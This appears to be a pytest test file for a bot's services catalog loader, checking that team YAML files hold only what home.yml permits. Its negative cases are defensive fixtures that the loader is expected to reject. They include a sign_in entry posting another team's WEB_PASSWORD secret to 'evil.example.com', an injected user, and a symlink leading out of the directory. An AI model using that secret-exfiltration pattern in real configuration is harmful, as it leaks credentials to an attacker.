"""A directory of services files: each team's holds what home.yml lets it hold, and nothing of another team's."""

import os
from collections.abc import Mapping
from pathlib import Path

import pytest

from bot.catalog import InvalidFile, load, right_part
from bot.errors import Misconfigured

HOME = """\
home:
  team: T0QUILT
  incident_channel: C0INCIDENT
  audiences: {stakeholders: [board]}
  destinations: {board: {slack: C0BOARD}, pager: {pagerduty: PAGER_KEY}}
people:
  ana: [U0AAAA]
  ben: [U0BBBB]
teams:
  web:
    changed_by: [ben]
    may_hold: {names: [web*], clusters: [prod], secrets: [WEB_*]}
  pay:
    changed_by: [ana]
    may_hold: {names: [pay*], services: [pay-*], accounts: [own, "210987654321"]}
"""
TEAM = """\
services:
  {name}:
    cluster: prod
    service: {name}-service
    region: eu-west-1
    requesters: [ana, ben]
    approvers: [ana, ben]
"""
GOOD = {"home.yml": HOME, "web.yml": TEAM.format(name="web"), "pay.yml": TEAM.format(name="pay")}
ROLE = "arn:aws:iam::{}:role/rollback".format


def put(home: Path, files: Mapping[str, str]) -> Path:
    directory = home / "services"
    directory.mkdir()
    for name, text in files.items():
        (directory / name).write_text(text, encoding="utf-8")
    return directory


def told(home: Path, files: Mapping[str, str]) -> list[str]:
    """What is said of them, a line for each flaw."""
    directory = put(home, files)
    with pytest.raises(InvalidFile) as refused:
        load(directory)
    head, *lines = str(refused.value).splitlines()
    assert head.startswith(f"The services files in {directory} are not ")
    return [line.strip() for line in lines]


@pytest.mark.parametrize(
    "asked",
    [
        "health: {url: 'http://Bank.internal:8080/healthz'}",
        "requests: [{name: x, url: 'https://bank.internal/x'}]",
        "sign_in: [{name: x, url: 'https://bank.internal/', method: POST, form: {p: x}}]",
        "features: {x: {environment: {A: '0'}, off_when: {url: 'https://bank.internal/', json: {a: b}}}}",
    ],
)
def test_a_team_does_not_reach_a_private_host_because_another_may(tmp_path: Path, asked: str) -> None:
    may = HOME.replace("services: [pay-*]", "services: [pay-*], private_hosts: [bank.internal]")
    pay = GOOD["pay.yml"].replace("    region", "    private_hosts: [bank.internal]\n    region")
    web = GOOD["web.yml"].replace("    region", f"    {asked}\n    region")

    lines = told(tmp_path, {"home.yml": may, "pay.yml": pay, "web.yml": web})

    assert [line.partition(": of")[0] for line in lines] == ["web.yml:5 The team web may not hold “bank.internal”"]


def test_all_teams_services_are_one_catalog_with_one_digest(tmp_path: Path) -> None:
    directory = put(tmp_path, {**GOOD, "README.md": "x", ".web.yml.swp": "{", "pay.yml.bak": "{"})
    first = load(directory)

    assert list(first.services) == ["pay", "web"]
    assert first.services["web"].channel == "C0INCIDENT"
    assert load(directory).digest == first.digest
    (directory / "web.yml").write_text(GOOD["web.yml"] + "# a word\n", encoding="utf-8")
    assert load(directory).digest != first.digest


def test_a_file_moved_from_one_team_to_another_is_another_configuration(tmp_path: Path) -> None:
    home = HOME.replace("names: [web*]", "names: ['*']").replace("names: [pay*], services: [pay-*]", "names: ['*']")
    directory = put(tmp_path, {**GOOD, "home.yml": home})
    first = load(directory)
    (directory / "web.yml").rename(directory / "x")
    (directory / "pay.yml").rename(directory / "web.yml")
    (directory / "x").rename(directory / "pay.yml")

    assert load(directory).digest != first.digest


@pytest.mark.parametrize(
    ("file", "change", "said"),
    [
        ("web.yml", ("  web:", "  pay-web:"), "web.yml:2 The team web may not hold “pay-web”: of `names`, only web*."),
        (
            "web.yml",
            ("cluster: prod", "cluster: bank"),
            "web.yml:3 The team web may not hold “bank”: of `clusters`, only",
        ),
        ("pay.yml", ("pay-service", "web"), "pay.yml:4 The team pay may not hold “web”: of `services`, only pay-*."),
        (
            "pay.yml",
            ("    region", f"    role_arn: {ROLE('123456789012')}\n    region"),
            "pay.yml:5 The team pay may not hold “123456789012”: of `accounts`, only own, 210987654321.",
        ),
        (
            "pay.yml",
            ("    region", f"    roles: {{read: '{ROLE('210987654321')}', act: '{ROLE('1' * 12)}'}}\n    region"),
            "pay.yml:5 The team pay may not hold “111111111111”: of `accounts`",
        ),
        (
            "web.yml",
            ("    region", "    private_hosts: [bank.internal]\n    region"),
            "web.yml:5 The team web may not hold “bank.internal”: of `private_hosts`, none.",
        ),
        (
            "pay.yml",
            (
                "    region",
                "    sign_in:\n      - {name: x, url: 'https://evil.example.com/', method: POST,"
                " form: {p: '{secret:WEB_PASSWORD}'}}\n    region",
            ),
            "pay.yml:5 The team pay may not hold “WEB_PASSWORD”: of `secrets`, none.",
        ),
        (
            "web.yml",
            ("    region", "    audiences: {pagers: [pager]}\n    region"),
            "web.yml:5 The team web may not hold “pager”: of `destinations`, none.",
        ),
        (
            "web.yml",
            ("    region", "    follow_ups: {issues: {github: acme/bank}}\n    region"),
            "web.yml:5 The team web may not hold “acme/bank”: of `repositories`, none.",
        ),
    ],
)
def test_a_team_holds_nothing_outside_of_what_it_may_hold(
    tmp_path: Path, file: str, change: tuple[str, str], said: str
) -> None:
    lines = told(tmp_path, {**GOOD, file: GOOD[file].replace(*change)})

    assert len(lines) == 1
    assert lines[0].startswith(said)


@pytest.mark.parametrize(
    ("files", "said"),
    [
        ({"web.yml": TEAM.format(name="pay")}, "web.yml:2 `services.pay` stands in pay.yml:2 already. Keep one"),
        (
            {"web.yml": TEAM.format(name="web").replace("web-service", "pay-service")},
            "web.yml:2 `services.web` is prod/pay-service in eu-west-1, as pay is in pay.yml:2.",
        ),
        ({"web.yaml": "services: {}\n"}, "web.yml:1 web.yaml is of the same name. Keep one of the two."),
        ({"home.yaml": HOME}, "home.yml:1 home.yaml is of the same name. Keep one of the two."),
        ({"wbe.yml": TEAM.format(name="wbe")}, "wbe.yml:1 No team wbe stands under `teams` in home.yml. Did you mean"),
        (
            {"web.yml": f"teams: {{web: {{may_hold: {{names: ['*']}}}}}}\n{TEAM.format(name='web')}"},
            "web.yml:1 `teams` does not belong here. A team's file holds `services` alone;",
        ),
        (
            {"web.yml": f"{TEAM.format(name='web')}people:\n  ben: [U0EVIL]\n"},
            "web.yml:8 `people` does not belong here.",
        ),
        ({"web.yml": ""}, "web.yml:1 There are no `services` here."),
        ({"web.yml": "services: [web]\n"}, "web.yml:1 There are no `services` here."),
        ({"home.yml": f"{HOME}services: {{}}\n"}, "home.yml:16 `services` does not belong here."),
        (
            {"home.yml": HOME.replace("clusters: [prod], ", "")},
            "home.yml:12 `teams.web.may_hold` names neither clusters nor accounts",
        ),
        (
            {"home.yml": HOME.replace("[ben]", "[bem]")},
            "home.yml:11 `teams.web.changed_by` names 'bem', who is not under people. Did you mean `ben`?",
        ),
        ({"web.yml": "services:\n\tweb: {}\n"}, "web.yml:2 The line is indented with a tab"),
        (
            {"pay.yml": TEAM.format(name="pay").replace("[ana, ben]", "[ana]")},
            "pay.yml:7 `services.pay`: nobody but ana",
        ),
    ],
)
def test_what_is_wrong_is_told_with_its_file_and_line(tmp_path: Path, files: dict[str, str], said: str) -> None:
    assert [line for line in told(tmp_path, {**GOOD, **files}) if line.startswith(said)]


def test_what_is_wrong_in_several_files_is_told_at_once(tmp_path: Path) -> None:
    files = {name: text.replace("region: eu-west-1", "region: eu-wets-1") for name, text in GOOD.items()}

    assert [line.split()[0] for line in told(tmp_path, files)] == ["pay.yml:5", "web.yml:5"]


def test_rights_that_nobody_can_use_and_what_a_team_may_not_hold_are_told_at_once(tmp_path: Path) -> None:
    alone = GOOD["web.yml"].replace("[ana, ben]", "[ana]").replace("cluster: prod", "cluster: other")

    said = told(tmp_path, {**GOOD, "web.yml": alone})

    assert [line.split(" ", 1)[0] for line in said] == ["web.yml:3", "web.yml:7"]
    assert "The team web may not hold “other”" in said[0]
    assert "nobody but ana could approve what ana asks for" in said[1]


def test_what_home_says_for_everybody_every_team_has(tmp_path: Path) -> None:
    home = HOME.replace("[board]}\n", "[board]}\n  follow_ups: {issues: {github: acme/bank}}\n")

    assert load(put(tmp_path, {**GOOD, "home.yml": home})).services["web"].audiences.stakeholders == ("board",)


def test_a_volume_that_links_within_itself_is_read_and_what_leads_out_is_not(tmp_path: Path) -> None:
    mounted = tmp_path / "mounted"
    (mounted / "..1").mkdir(parents=True)
    (mounted / "..data").symlink_to("..1")
    for name, text in GOOD.items():
        (mounted / "..1" / name).write_text(text, encoding="utf-8")
        (mounted / name).symlink_to(f"..data/{name}")
    assert list(load(mounted).services) == ["pay", "web"]

    (tmp_path / "elsewhere.yml").write_text(GOOD["web.yml"], encoding="utf-8")
    (mounted / "web.yml").unlink()
    (mounted / "web.yml").symlink_to(tmp_path / "elsewhere.yml")
    with pytest.raises(Misconfigured, match=r"web\.yml leads out of"):
        load(mounted)


def test_what_is_no_file_of_text_is_neither_waited_for_nor_read_to_its_end(tmp_path: Path) -> None:
    directory = put(tmp_path, GOOD)
    os.mkfifo(directory / "x.yml")
    with pytest.raises(Misconfigured, match="is no regular file"):
        load(directory)
    (directory / "x.yml").unlink()
    with (directory / "x.yml").open("wb") as file:
        file.truncate(9 << 20)
    with pytest.raises(Misconfigured, match="is larger than 8 MiB"):
        load(directory)


def test_a_directory_without_its_files_says_what_belongs_there(tmp_path: Path) -> None:
    with pytest.raises(Misconfigured, match=r"holds no services file\. Put home\.yml and a file for each team there"):
        load(tmp_path)
    (tmp_path / "web.yml").write_text(GOOD["web.yml"], encoding="utf-8")
    with pytest.raises(Misconfigured, match=r"holds no home\.yml"):
        load(tmp_path)


def test_of_a_directory_with_a_mistake_what_is_right_can_be_looked_at(tmp_path: Path) -> None:
    directory = put(tmp_path, {**GOOD, "web.yml": GOOD["web.yml"].replace("region: eu-west-1", "region: x")})

    right = right_part(directory)

    assert right
    assert ([*right.catalog.services], right.home_known) == (["pay"], True)
